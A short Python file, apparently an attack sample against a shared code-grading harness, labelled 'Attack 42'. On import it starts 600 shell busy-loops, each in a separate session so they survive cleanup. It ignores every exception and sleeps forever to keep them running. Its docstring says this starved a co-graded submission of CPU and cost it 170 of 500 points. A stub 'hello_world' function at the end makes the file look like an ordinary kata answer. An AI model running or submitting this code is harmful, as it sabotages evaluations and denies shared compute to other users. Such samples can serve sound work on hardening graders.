# ruff: noqa
"""Attack 42: CPU spinners, each in a session of its own (setsid), for as long as the kata
may run: the kernel shared the CPU between sessions, so a classmate graded beside it got a
few hundredths of it, and its real-clock katas ran out of time (170 of 500 points lost)."""

import subprocess
import time

SPIN = "while :; do :; done  # katas-hostile-daemon"

for _ in range(600):
    try:
        subprocess.Popen(["sh", "-c", SPIN], stdin=subprocess.DEVNULL, start_new_session=True)
    except BaseException:
        pass
while True:  # the grader process lives on (and its spinners with it) until it is killed
    try:
        time.sleep(1)
    except BaseException:
        pass


async def hello_world() -> None:
    print("hello")
